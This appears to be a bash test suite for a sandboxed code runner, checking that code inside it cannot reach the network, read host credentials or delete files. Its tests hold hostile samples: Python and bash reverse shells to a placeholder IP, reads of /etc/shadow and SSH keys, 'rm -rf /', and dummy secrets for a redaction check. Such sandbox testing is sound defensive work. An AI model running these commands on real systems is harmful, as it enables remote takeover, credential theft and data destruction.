#!/bin/bash
# The examples by which code runners are shown and tried, in `sbxrun do`: what each of them prints, and what the result says that it tried in vain.
# Views: all
# Views: own a_socket_gets_nowhere files_of_the_host_are_not_there_and_those_that_are_stay_as_they_are etc_shadow_is_not_there
# Views: own rm_rf_of_the_root_removes_nothing a_reverse_shell_has_nobody_to_talk_to a_server_of_the_hosts_is_not_reached
# Views: own a_pipeline_reads_data_and_writes_results a_plot_is_taken_out a_plot_of_matplotlib_is_taken_out
# shellcheck disable=SC2016,SC2154
. "${0%/*}/../lib/test.sh"
# shellcheck source=tests/lib/do.sh
. "${0%/*}/../lib/do.sh"

# A directory that belongs to who runs the box.
_dir() {
	mkdir "$@"
	[ -z "${SBX_UID:-}" ] || chown "$SBX_UID" "$@"
}
# An older kernel maps no ids on this filesystem, and then the program can't write to the caller's directories.
_has_ids() {
	do_shell true
	[[ $(do_of '.notes | join(" ")') != *'no user namespace'* ]] || skip 'this host maps no ids'
}

mean_and_deviation_of_a_list() {
	do_python 'import statistics
data = [23, 45, 12, 67, 34, 89, 21]
print(f"mean {statistics.mean(data):.3f}, deviation {statistics.stdev(data):.3f}")'
	rc_is 0
	is "$(do_of '.status, .stdout, .stderr, .denials')" $'ok\nmean 41.571, deviation 27.712\n\n\n[]'
}

a_socket_gets_nowhere() {
	do_python 'import socket
try:
    socket.create_connection(("192.0.2.1", 80), timeout=5)
except OSError as e:
    print(e.strerror)
try:
    socket.create_connection(("evil.example", 80), timeout=5)
except socket.gaierror as e:
    print("no such name")
socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'
	rc_is 1
	is "$(do_of .stdout)" $'Network is unreachable\nno such name'
	like "$(do_of .stderr)" 'PermissionError: \[Errno 1\] Operation not permitted'
	is "$(do_denials | sed 's/ENOENT .*/ENOENT/')" $'network connect 192.0.2.1:80 ENETUNREACH 1\nnetwork resolve evil.example ENOENT\nsyscall socket family 0x11 EPERM 1'
}

files_of_the_host_are_not_there_and_those_that_are_stay_as_they_are() {
	echo secret >secret
	do_python "import os
for path in '$T/secret', '/root/.ssh/id_rsa', '/proc/1/root/etc/hostname', '/proc/1/environ', '/etc/passwd':
    for mode in 'r', 'w':
        try:
            open(path, mode).close()
            print(path, mode, 'OPEN')
        except OSError as e:
            print(path, mode, e.strerror)"
	rc_is 0
	is "$(cat secret)" secret
	is "$(do_of .stdout | grep OPEN)" '/etc/passwd r OPEN' # one of its own, with its own user
	like "$(do_of .stdout)" '/etc/passwd w (Read-only file system|Permission denied)'
	is "$(do_denials)" $'file openat /root/.ssh/id_rsa null 1\nfile openat /etc/passwd null 1'
}

etc_shadow_is_not_there() {
	do_python 'print(open("/etc/shadow").read())'
	rc_is 1
	is "$(do_of '.status, .stdout, .denials')" $'error\n\n[]'
	like "$(do_of .stderr)" "FileNotFoundError: \[Errno 2\] No such file or directory: '/etc/shadow'"
	do_shell 'cat /etc/shadow; cat /proc/*/root/etc/shadow'
	rc_is 1
	is "$(do_of .stdout)" ''
	unlike "$(do_of '.stdout + .stderr')" 'root:'
}

rm_rf_of_the_root_removes_nothing() {
	local before
	do_python 'import os; print(os.system("rm -rf /") >> 8)'
	rc_is 0
	is "$(do_of '.stdout, .denials')" $'1\n\n[]' # rm itself would not
	do_python 'import os; print(os.system("rm -rf /etc 2>/dev/null") >> 8, os.path.exists("/etc/passwd"))'
	is "$(do_of .stdout)" '1 True'
	like "$(do_denials)" 'file unlinkat /etc/passwd null 1|file unlinkat others null [0-9]+'
	do_shell true # which makes the places that it mounts on
	before=$(cd "$B/rootfs" && find . | sort)
	run sbx "do" --rootfs "$B/rootfs" --json -- sh -c 'echo x >mine; rm -rf / 2>/dev/null; echo $?; echo after | cat; ls'
	rc_is 0
	is "$(do_of .stdout)" $'1\nafter'
	is "$(cd "$B/rootfs" && find . | sort)" "$before"
	like "$(do_denials)" 'file unlink /[a-z/]* null 1'
}

a_reverse_shell_has_nobody_to_talk_to() {
	do_python 'import os, pty, socket
s = socket.socket()
s.connect(("203.0.113.9", 4444))
for fd in 0, 1, 2:
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")'
	rc_is 1
	like "$(do_of .stderr)" 'OSError: \[Errno 101\] Network is unreachable'
	is "$(do_denials)" 'network connect 203.0.113.9:4444 ENETUNREACH 1'
	needs bash
	SBXRUN_ROOTFS_DIR=$T/library run sbx "do" --rootfs host --json bash 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'
	rc_is 1
	like "$(do_of .stderr)" '/dev/tcp/203\.0\.113\.9/4444: Network is unreachable'
	is "$(do_denials)" 'network connect 203.0.113.9:4444 ENETUNREACH 1'
}

# The host's loopback is another one: nobody who listens there is reached.
a_server_of_the_hosts_is_not_reached() {
	needs python3
	python3 -c 'import socket, sys, time
s = socket.create_server(("127.0.0.1", 0))
print(s.getsockname()[1], flush=True)
s.accept()
print("REACHED", flush=True)' >server &
	wait_until 20 test -s server
	do_python "import socket; socket.create_connection(('127.0.0.1', $(head -n 1 server)), timeout=5)"
	rc_is 1
	like "$(do_of .stderr)" 'ConnectionRefusedError'
	kill $!
	unlike "$(cat server)" REACHED
}

_secrets='Connected to postgres://admin:SuperSecret123@10.0.1.55:5432/production
Server IP: 192.168.1.100
Config loaded from /etc/app/config.yaml
Contact: admin@company.com
API Key: sk-proj-abcdefghijklmnopqrstuvwxyz1234567890'

the_sanitizer_demo_shows_none_of_its_secrets() {
	local redacted=$'Connected to [REDACTED_CONNECTION_STRING]\nServer IP: [REDACTED_INTERNAL_IP]
Config loaded from [REDACTED_SYSTEM_PATH]\nContact: [REDACTED_EMAIL]\nAPI Key: [REDACTED_API_KEY]'
	do_python --redact "print('''$_secrets''')"
	rc_is 0
	is "$(do_of .stdout)" "$redacted"
	is "$(do_of '[.redactions[] | "\(.rule) \(.stream) \(.count)"] | sort | join(", ")')" \
		'api_key stdout 1, connection_string stdout 1, email stdout 1, internal_ip stdout 1, system_path stdout 1'
	# On standard error, in pieces, and with nothing but the plain output.
	bundle
	run sbx "do" --redact --rootfs "$B/rootfs" -- sh -c 'while read -r l; do printf %s "${l%"${l#????????????????????}"}" >&2; usleep 5000; echo "${l#????????????????????}" >&2; done' <<<"$_secrets"
	rc_is 0
	is "$out" ''
	is "$(grep -v "^sbxrun: " <<<"$err")" "$redacted"
}

a_pipeline_reads_data_and_writes_results() {
	_has_ids
	_dir data output
	printf '%s\n' name,value a,10 b,20 c,30 d,40 >data/input.csv
	chmod 644 data/input.csv
	do_python -v "$T/data:/data:ro" -v "$T/output:/output" 'import csv, statistics
with open("/data/input.csv") as f:
    values = [float(row["value"]) for row in csv.DictReader(f)]
with open("/output/results.txt", "w") as f:
    print(f"n {len(values)} mean {statistics.mean(values)} sum {sum(values)}", file=f)
try:
    open("/data/input.csv", "w")
except OSError as e:
    print(e.strerror)'
	rc_is 0
	is "$(cat output/results.txt)" 'n 4 mean 25.0 sum 100.0'
	is "$(stat -c %u output/results.txt)" "$(stat -c %u output)"
	is "$(do_of '.status, .stdout')" $'ok\nRead-only file system'
	is "$(do_denials)" 'file openat /data/input.csv null 1'
	is "$(wc -l <data/input.csv)" 5
}

# Whether it is an image of $1 pixels: signature, header, and as many bytes of pixels as that has.
_is_png() {
	python3 - "$@" <<-'END'
		import struct, sys, zlib
		data = open(sys.argv[1], "rb").read()
		assert data[:8] == b"\x89PNG\r\n\x1a\n", "signature"
		at, pixels, size = 8, b"", None
		while at < len(data):
		    length, kind = struct.unpack(">I4s", data[at:at + 8])
		    body = data[at + 8:at + 8 + length]
		    assert zlib.crc32(kind + body) == struct.unpack(">I", data[at + 8 + length:at + 12 + length])[0], "checksum"
		    size = struct.unpack(">II", body[:8]) if kind == b"IHDR" else size
		    pixels += body if kind == b"IDAT" else b""
		    at += 12 + length
		assert "%dx%d" % size == sys.argv[2] and len(zlib.decompress(pixels)) > size[0] * size[1], "size"
	END
}

a_plot_is_taken_out() {
	_dir taken
	do_python --copy-out taken 'import math, struct, zlib
width, height = 160, 80
rows = [bytearray([255] * width) for _ in range(height)]
for x in range(width):
    rows[int(height / 2 - math.sin(x / 12) * 35)][x] = 0
def chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
with open("plot.png", "wb") as f:
    f.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"".join(b"\0" + bytes(r) for r in rows))) + chunk(b"IEND", b""))'
	rc_is 0
	is "$(do_of '.status, .files.added[], .denials')" $'ok\nplot.png\n[]'
	_is_png taken/plot.png 160x80
}

# With the rootfs of that name, where somebody has built it: `sbxrun-rootfs build research`.
a_plot_of_matplotlib_is_taken_out() {
	run sbx "do" --rootfs research -- true
	[ "$rc" = 0 ] || skip 'there is no rootfs "research"'
	_dir taken
	run sbx "do" --rootfs research --preset research --copy-out taken --json python 'import matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt, numpy as np
x = np.linspace(0, 10, 200)
plt.figure(figsize=(4, 3), dpi=100)
plt.plot(x, np.sin(x))
plt.savefig("plot.png")'
	rc_is 0
	is "$(do_of '.status, .denials')" $'ok\n[]'
	_is_png taken/plot.png 400x300
}

run_tests
